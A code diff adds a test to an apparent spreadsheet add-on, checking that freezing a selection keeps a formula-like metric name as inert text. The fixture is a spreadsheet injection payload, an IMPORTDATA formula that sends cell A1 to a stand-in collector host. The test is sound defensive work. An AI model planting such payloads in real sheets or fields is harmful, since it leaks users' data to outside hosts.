@@ -106,6 +106,32 @@ describe('Freeze selection', () => {
     expect(sheet.getRange('E8').getValue()).toBe(valueOn(metric, dates[3]!));
   });
 
+  it('keeps a metric name that reads as a formula the text it showed (issue 25): no live IMPORTDATA after Freeze', async () => {
+    const name = '=IMPORTDATA("https://collector.example/x?"&A1)';
+    await stack.emulator.control.fixtures({ metrics: [{ company_id: DEMO_IDS.fund, name, frequency: 'monthly', unit: 'USD' }] });
+    const written: string[] = [];
+    const rt = stack.runtime({ formulaEvaluator: (formula) => (written.push(formula), 'Loading…') });
+    const sheet = rt.spreadsheet.insertSheet('Model');
+    const formula = `=METRICS("${DEMO_IDS.fund}")`;
+    expect(rt.evaluateFormula(formula, { cell: 'A1', sheet: 'Model' })).toMatchObject({ ok: true });
+    const shown = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getValues();
+    const at = shown.findIndex((row) => row.includes(name));
+    // METRICS() shows it as text: a custom function's result is never a formula.
+    expect(at).toBeGreaterThan(0);
+    const column = shown[at]!.indexOf(name) + 1;
+    written.length = 0;
+
+    select(rt, 'A1');
+    expect(ok<FreezeReport>(rt.callServer('freezeSelection')).frozen).toEqual([{ range: expect.stringMatching(/^A1:/), formula }]);
+    const cell = sheet.getRange(at + 1, column);
+    expect(cell.getFormula()).toBe('');
+    expect(cell.getValue()).toBe(name);
+    // Every other frozen cell is what it showed, too, and no formula was written anywhere.
+    expect(sheet.getRange(1, 1, shown.length, shown[0]!.length).getValues()).toEqual(shown);
+    expect(sheet.getRange(1, 1, shown.length, shown[0]!.length).getFormulas().flat().filter((f) => f !== '')).toEqual([]);
+    expect(written).toEqual([]);
+  });
+
   it('leaves a formula showing an error live, and says so', async () => {
     const { rt } = await model();
     const sheet = rt.spreadsheet.getSheetByName('Model')!;
